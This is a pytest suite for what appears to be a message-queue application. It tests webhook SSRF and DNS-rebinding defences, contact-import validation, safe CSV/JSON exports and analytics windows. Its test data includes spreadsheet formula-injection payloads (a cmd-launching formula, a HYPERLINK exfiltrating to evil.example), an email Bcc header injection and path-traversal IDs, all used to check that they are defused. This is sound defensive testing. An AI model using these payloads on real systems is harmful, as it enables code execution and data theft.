    def __init__(self, first: str, then: str) -> None:
        self.real = socket.getaddrinfo
        self.answers = (first, then)
        self.asked = 0

    def __call__(self, host: str, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host != "hooks.rebind.test":
            return self.real(host, port, *args, **kwargs)
        self.asked += 1
        return self.real(self.answers[self.asked > 1], port, *args, **kwargs)


@pytest.mark.parametrize(
    ("first", "then"), [("127.0.0.2", "127.0.0.1"), ("127.0.0.1", "127.0.0.2")]
)
def test_a_delivery_resolves_its_host_once_and_connects_to_the_address_it_checked(
    monkeypatch: pytest.MonkeyPatch, first: str, then: str
) -> None:
    # Given a receiver on 127.0.0.2, allowed by network, and an internal service on
    # 127.0.0.1 at the same port; and a name server whose answer changes after the
    # first question (DNS rebinding)
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "127.0.0.2/32")
    # (a port below the kernel's ephemeral range: one from bind(0) may be taken on
    # 127.0.0.1 by another test's outgoing connection before the second server binds it)
    with serving(_WebhookServer("127.0.0.2", free_port())) as receiver:
        port = receiver.server_address[1]
        with serving(_WebhookServer("127.0.0.1", port)) as internal:
            rebinding = _Rebinding(first, then)
            monkeypatch.setattr(socket, "getaddrinfo", rebinding)

            # When a delivery to the name runs
            url = f"http://hooks.rebind.test:{port}/hooks/crm"
            try:
                outcome = webhooks.deliver_webhook(delivery(url))
            except webhooks.WebhookError as exc:
                outcome = str(exc)

    # Then the name was asked once, and the delivery went where that answer was checked:
    # to the receiver when it named the receiver, nowhere when it named the internal
    # service, which got nothing either way (a check that resolved the name apart from
    # the connection let a second answer reach it)
    assert rebinding.asked == 1
    assert internal.received == []
    if first == "127.0.0.2":
        assert outcome == {"status": 200}
        assert len(receiver.received) == 1
    else:
        assert "resolves to the non-public address 127.0.0.1; refused" in str(outcome)
        assert receiver.received == []


def test_allowed_networks_let_their_addresses_through_and_no_other(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", " 10.20.0.0/16 , 127.0.0.2 ")
    with serving(_WebhookServer("127.0.0.2")) as receiver:
        assert webhooks.deliver_webhook(delivery(receiver.url)) == {"status": 200}
        assert len(receiver.received) == 1
        with pytest.raises(webhooks.WebhookError, match=r"non-public address 127\.0\.0\.1"):
            webhooks.deliver_webhook(delivery(receiver.url.replace("127.0.0.2", "127.0.0.1")))


def test_a_wrong_allow_list_names_the_variable_and_the_fix(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "yes")
    with pytest.raises(webhooks.WebhookError) as caught:
        webhooks.deliver_webhook(delivery("https://example.com/hook"))
    # worded so that it reads right once masked ("NAME=value" would show NAME=********)
    assert (
        "HUEYARD_WEBHOOK_ALLOW_PRIVATE is 'yes', and 'yes' in it is not a network; set "
        "HUEYARD_WEBHOOK_ALLOW_PRIVATE to 1"
    ) in str(caught.value)


def test_the_stored_payload_carries_the_secret_but_its_repr_does_not() -> None:
    model = delivery("https://example.com/hook")
    assert SECRET not in repr(model)
    assert json.loads(webhooks.deliver_webhook.spec.payload_json(model))["secret"] == SECRET


def test_a_refused_secret_is_not_quoted() -> None:
    with pytest.raises(PayloadError) as caught:
        webhooks.deliver_webhook.spec.payload_json(
            {**GOOD["webhooks.deliver_webhook"], "secret": "tiny-secret"}
        )
    assert "tiny-secret" not in str(caught.value)


def test_redact_url_drops_credentials_query_and_fragment() -> None:
    assert (
        redact_url("https://user:pw@example.com:8443/a/b?token=x#f")
        == "https://example.com:8443/a/b"
    )
    assert redact_url("http://[::1]:9/x") == "http://[::1]:9/x"


# -- ai ---------------------------------------------------------------------------------------


def test_the_echo_provider_is_deterministic_and_says_it_is_a_dry_run(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for variable in (*_openai.ENVIRONMENT.values(), "HUEYARD_AI_PROVIDER"):
        monkeypatch.delenv(variable, raising=False)
    request = ai.AIRequest(conversationId="conv-7", prompt="Opening hours?")
    assert (
        ai.generate_reply(request)
        == ai.generate_reply(request)
        == {
            "conversationId": "conv-7",
            "provider": "echo",
            "model": None,
            "reply": "echo: Opening hours?",
            "finishReason": None,
            "dryRun": True,
        }
    )
    voice = ai.VoiceTranscription(
        conversationId="conv-7", audio_url="https://cdn.example/v.ogg?sig=1", language="pt-BR"
    )
    result = ai.transcribe_voice(voice)
    assert result["transcript"] == "echo transcript (pt-BR) of https://cdn.example/v.ogg"
    assert result["dryRun"] is True


def test_a_registered_provider_is_used() -> None:
    class Shouty:
        def reply(self, request: ai.AIRequest) -> AIReply:
            return AIReply(text=request.prompt.upper(), model="shout-1", dry_run=False)

        def transcribe(self, request: ai.VoiceTranscription) -> AITranscript:
            return AITranscript(text="HELLO", model="shout-1", dry_run=False)

    AI_PROVIDERS.register("shouty", Shouty())
    try:
        request = ai.AIRequest(conversationId="c", prompt="hi", provider="shouty")
        assert ai.generate_reply(request)["reply"] == "HI"
        with pytest.raises(ValueError, match="'shouty' is already registered"):
            AI_PROVIDERS.register("shouty", Shouty())
    finally:
        AI_PROVIDERS.unregister("shouty")
    # a payload naming it no longer validates, as an enqueued job's would not
    with pytest.raises(PayloadError, match="unknown ai provider 'shouty'"):
        ai.generate_reply(request)


# -- imports ----------------------------------------------------------------------------------

ADA = {"name": "Ada Lovelace", "phone": "+442079460958"}


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ({"phone": PHONE}, "name is missing"),
        ({"name": "   ", "phone": PHONE}, "name is missing"),
        ({"name": 42, "phone": PHONE}, "name must be text"),
        ({"name": ["Ada"], "phone": PHONE}, "name must be text"),
        # half an emoji (a JSON "\\ud83d" escape): no UTF-8 file can hold it
        ({"name": "Bob \ud83d", "phone": PHONE}, "name is not valid Unicode text"),
        ({"name": "A\x00da", "phone": PHONE}, r"name holds a control character.*character 2"),
        ({"name": "Ada\x1b[2J", "phone": PHONE}, "name holds a control character"),
        ({"name": "Ada\u202egnp.exe", "phone": PHONE}, "name holds a control character"),
        ({"name": "Ada\nLovelace", "phone": PHONE}, "name holds a control character"),
        ({"name": "Ada\x85Lovelace", "phone": PHONE}, "name holds a control character"),
        ({"name": "x" * 201, "phone": PHONE}, "name is longer than 200 characters"),
        ({"name": "Ada"}, "phone is missing"),
        ({"name": "Ada", "phone": ""}, "phone is missing"),
        ({"name": "Ada", "phone": 14155550123}, "phone must be text"),
        ({"name": "Ada", "phone": "4155550123"}, "phone is not an E.164 number"),
        ({"name": "Ada", "phone": "+0123456789"}, "phone is not an E.164 number"),
        ({"name": "Ada", "phone": "+1 415 CALL ME"}, "phone is not an E.164 number"),
        ({"name": "Ada", "phone": FULLWIDTH_PHONE}, "phone is not an E.164 number"),
        ({"name": "Ada", "phone": ARABIC_INDIC_PHONE}, "phone is not an E.164 number"),
        ({**ADA, "email": "ada\uff20example.com"}, "email is not an email address"),
        ({**ADA, "email": "ada@example.com\nBcc: x@evil.example"}, "email holds a control"),
        ({**ADA, "email": "not-an-email"}, "email is not an email address"),
        ({**ADA, "email": 7}, "email must be text"),
        ({**ADA, "email": "ada@example.com\ud83d"}, "email is not valid Unicode text"),
        ({**ADA, "email": "ada@exa\u202emple.com"}, "email holds a control character"),
    ],
)
def test_bad_rows_are_rejected_with_a_reason(row: dict[str, Any], reason: str) -> None:
    with pytest.raises(ValueError, match=reason):
        imports.validate_row(row)


@pytest.mark.parametrize(
    ("phone", "normalised"),
    [
        ("+1 (415) 555-0123", "+14155550123"),
        ("0044 20 7946 0958", "+442079460958"),
        ("+44.20.7946.0958", "+442079460958"),
        # the UK trunk "(0)" is not dialled after the country code
        ("+44 (0)20 7946 0958", "+442079460958"),
        ("+44(0)2079460958", "+442079460958"),
        ("0044 (0) 20 7946 0958", "+442079460958"),
        ("+49 (0)30 1234567", "+49301234567"),
        ("+1 (041) 555-0123", "+10415550123"),  # not a trunk "(0)": kept
    ],
)
def test_phones_are_normalised(phone: str, normalised: str) -> None:
    contact = imports.validate_row({"name": " Ada ", "phone": phone, "email": "", "tags": "x"})
    assert contact == imports.Contact(name="Ada", phone=normalised, email=None)


def test_an_import_counts_and_explains_rejections(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HUEYARD_IMPORT_DIR", str(tmp_path))
    # Given two good rows, a duplicate of the first and twelve bad rows
    rows: list[dict[str, Any]] = [
        {**ADA, "email": " ada@example.com "},
        {"name": "Grace", "phone": "+1 415 555 0199"},
        {"name": "Ada again", "phone": "+44 20 7946 0958"},
    ] + [{"name": f"n{i}"} for i in range(12)]

    # When they are imported
    result = imports.import_contacts(imports.ContactImport(importId="imp-9", rows=rows))

    # Then the counts add up and the first ten reasons are listed, by row index
    assert result["importId"] == "imp-9"
    assert (result["total"], result["imported"], result["rejected"]) == (15, 2, 13)
    assert len(result["rejections"]) == imports.MAX_REASONS
    assert result["rejections"][0] == {"index": 2, "reason": "phone duplicates row 0"}
    assert result["rejections"][1] == {"index": 3, "reason": "phone is missing"}
    # And the two imported contacts are in the file it names, normalised
    lines = Path(result["path"]).read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [
        {"name": "Ada Lovelace", "phone": "+442079460958", "email": "ada@example.com"},
        {"name": "Grace", "phone": "+14155550199", "email": None},
    ]


# -- exports ----------------------------------------------------------------------------------


@pytest.fixture
def export_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    directory = tmp_path / "exports"
    monkeypatch.setenv("HUEYARD_EXPORT_DIR", str(directory))
    return directory


@pytest.mark.parametrize(
    "export_id",
    ["../escape", "..", "a/b", "a\\b", ".hidden", "a.csv", "", "x" * 129, "a b", "ünï", "/abs"],
)
def test_an_export_id_that_is_not_a_plain_name_is_refused(export_id: str) -> None:
    payload = {**GOOD["exports.export_data"], "exportId": export_id}
    with pytest.raises(PayloadError, match="exportId: Value error"):
        exports.export_data.spec.payload_json(payload)


def export(format: str, rows: list[dict[str, Any]], kind: str = "contacts") -> dict[str, Any]:
    request = exports.ExportRequest.model_validate(
        {"exportId": "exp-1", "kind": kind, "format": format, "rows": rows}
    )
    return exports.export_data(request)


def test_a_csv_export_is_written_with_every_column(export_dir: Path) -> None:
    rows = [
        {"name": "Ada", "phone": "+442079460958", "tags": ["vip"]},
        {"name": '=HYPERLINK("http://evil")', "balance": -12.5, "active": True, "note": None},
        {"name": "-1+1", "phone": "+14155550123", "note": "@SUM(A1)"},
    ]

    result = export("csv", rows)

    target = export_dir / "contacts-exp-1.csv"
    assert result == {
        "exportId": "exp-1",
        "path": str(target),
        "rows": 3,
        "bytes": target.stat().st_size,
    }
    assert target.read_text(encoding="utf-8").splitlines() == [
        "name,phone,tags,balance,active,note",
        'Ada,+442079460958,"[""vip""]",,,',
        '"\'=HYPERLINK(""http://evil"")",,,-12.5,true,',
        "'-1+1,+14155550123,,,,'@SUM(A1)",
    ]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


FORMULA_START = ("=", "@", "+", "-", "\t", "\r", "\uff1d", "\uff20", "\uff0b", "\uff0d")


def runs_as_formula(text: str) -> bool:
    """What a spreadsheet would run: text starting (after spaces) like a formula, not a
    plain number such as -12.5 or +14155550123."""
    stripped = text.lstrip(" ")
    if re.fullmatch(r"[+-][0-9.]+", stripped):
        return False
    return stripped.startswith(FORMULA_START)


def test_a_cr_in_a_cell_or_a_formula_in_a_header_is_not_a_formula_in_any_reader(
    export_dir: Path,
) -> None:
    # Given cells whose text after a CR or LF is a formula, and columns named like formulas
    rows: list[dict[str, Any]] = [
        {"name": "Ada\r=cmd|' /C calc'!A0", "phone": "+14155550123"},
        {"name": "Bob\n@SUM(1+1)", "note": "x\r\n+1+2\r-3", "balance": -12.5},
        {'=HYPERLINK("http://evil.example/?"&A2,"Click")': "header", "@cmd": 1, "+1+2": 2},
        {" =1+1": "leading space", "\uff1d1+1": "fullwidth", "-2": "a number is a number"},
    ]

    # When they are exported as CSV
    path = Path(export("csv", rows)["path"])
    data = path.read_bytes()

    # Then a CSV reader gets every value back, each formula defused by a leading "'"
    with path.open(newline="", encoding="utf-8") as file:
        header, *body = list(csv.reader(file))
    assert header == [
        "name", "phone", "note", "balance",
        "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "'@cmd", "'+1+2",
        "' =1+1", "'\uff1d1+1", "-2",
    ]  # fmt: skip
    assert body[0][:2] == ["Ada\r'=cmd|' /C calc'!A0", "+14155550123"]
    assert body[1][:4] == ["Bob\n'@SUM(1+1)", "", "x\r\n'+1+2\r-3", "-12.5"]
    # And a reader that ends a row at every CR or LF, quoted or not (how Excel and
    # LibreOffice have been fooled), finds no line that starts a formula either
    for line in re.split(rb"\r\n|\r|\n", data):
        for cell in next(csv.reader([line.decode()]), []):
            assert not runs_as_formula(cell.strip('"')), line  # the quotes are syntax
    # And every field holding a CR or LF is quoted, so it stays one field
    assert b"\"Ada\r'=cmd|' /C calc'!A0\"" in data
    assert b'"x\r\n\'+1+2\r-3"' in data


def test_a_json_export_round_trips(export_dir: Path) -> None:
    rows = [{"id": "m1", "text": "héllo"}, {"id": "m2", "nested": {"a": [1, 2]}}]
    result = export("json", rows, kind="messages")
    assert Path(result["path"]).name == "messages-exp-1.json"
    assert json.loads(Path(result["path"]).read_text(encoding="utf-8")) == rows
    assert json.loads(Path(export("json", [])["path"]).read_text(encoding="utf-8")) == []


class _Unprintable:
    def __str__(self) -> str:
        raise RuntimeError("disk full, say")


@pytest.mark.parametrize(
    ("format", "bad_row"),
    [("csv", {"name": _Unprintable()}), ("json", {"score": float("nan")})],
)
def test_a_failed_export_leaves_the_previous_file_whole(
    export_dir: Path, format: str, bad_row: dict[str, Any]
) -> None:
    # Given an earlier export of the same id
    first = Path(export(format, [{"name": "old"}])["path"])
    before = first.read_bytes()

    # When a re-export fails after some rows were written (a row no payload could carry,
    # given to the function itself: a direct call of the handler refuses it up front)
    rows = [{"name": f"row {i}"} for i in range(100)] + [bad_row]
    request = exports.ExportRequest.model_construct(  # unvalidated: the model refuses NaN
        exportId="exp-1", kind="contacts", format=format, rows=rows
    )
    with pytest.raises((RuntimeError, ValueError)):
        exports.export_data.spec.func(request)

    # Then the earlier file is untouched and no temporary file is left behind
    assert first.read_bytes() == before
    assert os.listdir(export_dir) == [first.name]


@pytest.mark.parametrize(
    ("rows", "where"),
    [
        ([{"x": float("nan")}], "payload.rows[0].x is nan"),
        ([{"a": 1}, {"score": float("inf")}], "payload.rows[1].score is inf"),
        ([{"tags": {"deep": [1, -float("inf")]}}], "payload.rows[0].tags.deep[1] is -inf"),
    ],
)
def test_an_export_row_with_nan_or_infinity_is_refused_at_enqueue(
    export_dir: Path, rows: list[dict[str, Any]], where: str
) -> None:
    # Given rows holding numbers JSON has not (they used to be stored as null, silently)
    payload = {**GOOD["exports.export_data"], "rows": rows}

    # When they are enqueued, Then the payload is refused naming the field (every handler's
    # payload: framework.payloads.check_finite)
    with pytest.raises(PayloadError, match=re.escape(where)):
        exports.export_data.spec.payload_json(payload)
    assert not export_dir.exists()


@pytest.mark.parametrize("mode", [0o755, 0o770, 0o701, 0o1777])
def test_an_existing_export_dir_open_to_others_is_refused(export_dir: Path, mode: int) -> None:
    # Given an export directory that already exists, open to its group or to others
    export_dir.mkdir()
    export_dir.chmod(mode)

    # When an export is written, Then it is refused, naming the path and the fix
    with pytest.raises(ConfigError) as refused:
        export("csv", [{"name": "Ada"}])
    message = str(refused.value)
    assert f"{export_dir} ($HUEYARD_EXPORT_DIR) has mode {mode:o}" in message
    assert f"chmod 700 {export_dir}" in message
    assert list(export_dir.iterdir()) == []  # nothing written into it


def test_an_existing_export_dir_of_another_user_is_refused(export_dir: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can give a directory to another user")
    # Given an export directory created first by another user, private to them
    export_dir.mkdir(mode=0o700)
    other = os.geteuid() + 1
    os.chown(export_dir, other, -1)

    # When an export is written, Then it is refused: they could read or swap the file
    with pytest.raises(ConfigError) as refused:
        export("json", [{"name": "Ada"}])
    assert f"belongs to uid {other}, not to this process's user" in str(refused.value)
    assert "HUEYARD_EXPORT_DIR" in str(refused.value)
    assert list(export_dir.iterdir()) == []


def test_the_default_export_dir_is_under_the_temp_dir() -> None:
    import tempfile

    assert exports.export_dir({}) == Path(tempfile.gettempdir()) / "hueyard-exports"
    assert exports.export_dir({"HUEYARD_EXPORT_DIR": "/data/x"}) == Path("/data/x")


# -- analytics --------------------------------------------------------------------------------


def test_a_snapshot_aggregates_every_metric() -> None:
    payload = analytics.AnalyticsSnapshot.model_validate(
        {
            "period": "daily",
            "date": "2025-11-05",
            "metrics": {"sent": [1, 2, 3, 4], "rate": 0.5, "tenths": [0.1] * 10, "delta": [-3, 7]},
        }
    )

    result = analytics.snapshot(payload)

    assert result == {
        "period": "daily",
        "date": "2025-11-05",
        "window": {"start": "2025-11-05", "end": "2025-11-05"},
        "metrics": {
            "delta": {"count": 2, "sum": 4.0, "avg": 2.0, "min": -3.0, "max": 7.0},
            "rate": {"count": 1, "sum": 0.5, "avg": 0.5, "min": 0.5, "max": 0.5},
            "sent": {"count": 4, "sum": 10.0, "avg": 2.5, "min": 1.0, "max": 4.0},
            "tenths": {"count": 10, "sum": 1.0, "avg": 0.1, "min": 0.1, "max": 0.1},
        },
    }
    assert list(result["metrics"]) == ["delta", "rate", "sent", "tenths"]


@pytest.mark.parametrize(
    ("period", "today", "start", "end"),
    [
        ("daily", "2025-11-05", "2025-11-04", "2025-11-04"),
        ("daily", "2025-03-01", "2025-02-28", "2025-02-28"),
        ("weekly", "2025-11-10", "2025-11-03", "2025-11-09"),  # the Monday tick
        ("weekly", "2025-11-12", "2025-11-03", "2025-11-09"),  # run late, on Wednesday
        ("weekly", "2025-01-01", "2024-12-23", "2024-12-29"),
        ("monthly", "2024-03-01", "2024-02-01", "2024-02-29"),
        ("monthly", "2025-01-01", "2024-12-01", "2024-12-31"),
    ],
)
def test_without_a_date_the_window_is_the_last_complete_period(
    period: str, today: str, start: str, end: str
) -> None:
    window = analytics.previous_window(period, datetime.date.fromisoformat(today))  # type: ignore[arg-type]
    assert (window[0].isoformat(), window[1].isoformat()) == (start, end)


@pytest.mark.parametrize(
    ("period", "date", "start", "end"),
    [
        ("daily", "2025-11-05", "2025-11-05", "2025-11-05"),
        ("weekly", "2025-11-05", "2025-11-03", "2025-11-09"),  # a Wednesday
        ("weekly", "2025-11-03", "2025-11-03", "2025-11-09"),  # the Monday
        ("weekly", "2025-11-09", "2025-11-03", "2025-11-09"),  # the Sunday
        ("weekly", "2025-01-01", "2024-12-30", "2025-01-05"),  # across the year
        ("monthly", "2024-02-10", "2024-02-01", "2024-02-29"),  # leap year
        ("monthly", "2025-02-10", "2025-02-01", "2025-02-28"),
        ("monthly", "2025-12-31", "2025-12-01", "2025-12-31"),
    ],
)
def test_the_window_is_the_calendar_period(period: str, date: str, start: str, end: str) -> None:
    payload = analytics.AnalyticsSnapshot.model_validate(
        {"period": period, "date": date, "metrics": {"x": 1}}
    )
    assert analytics.snapshot(payload)["window"] == {"start": start, "end": end}


def test_through_a_proxy_the_target_is_checked_and_the_proxy_is_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given a proxy on loopback (an internal address, as an egress proxy is)
    for name in ("no_proxy", "NO_PROXY", "https_proxy", "HTTPS_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "10.20.0.0/16")
    with serving(_WebhookServer()) as proxy:
        monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{proxy.server_address[1]}")
        opener = _public.opener()  # reads the proxy from the environment now

        def post(url: str) -> int:
            stamp = int(time.time())
            headers = {
                webhooks.TIMESTAMP_HEADER: str(stamp),
                webhooks.SIGNATURE_HEADER: webhooks.sign(SECRET, stamp, b"{}"),
            }
            request = urllib.request.Request(url, data=b"{}", headers=headers)
            with opener.open(request, timeout=5) as response:
                return int(response.status)

        # When a request goes to an allowed target, and one to a refused target
        assert post("http://10.20.0.5/hook") == 200
        with pytest.raises(_public.Refused, match=r"non-public address 10\.1\.2\.3; refused"):
            post("http://10.1.2.3/hook")

    # Then only the allowed one reached the proxy
    assert len(proxy.received) == 1


@pytest.mark.parametrize(
    ("name", "header"), [("three.csv", "phone\n"), ("three.jsonl", "")], ids=["csv", "jsonl"]
)
def test_a_data_file_holds_at_most_its_rows_a_csv_s_header_aside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, header: str
) -> None:
    from pipelines._recipients import RECIPIENTS_FILE, RecipientsFileError, read_rows

    monkeypatch.setenv(RECIPIENTS_FILE.variable, str(tmp_path))
    kind = dataclasses.replace(RECIPIENTS_FILE, max_rows=3)
    row = "+14155550123\n" if name.endswith(".csv") else '{"phone": "+14155550123"}\n'
    (tmp_path / name).write_text(header + row * 3)
    assert len(list(read_rows(kind, name))) == 3
    (tmp_path / name).write_text(header + row * 4)
    with pytest.raises(RecipientsFileError, match="has more than 3 rows"):
        list(read_rows(kind, name))
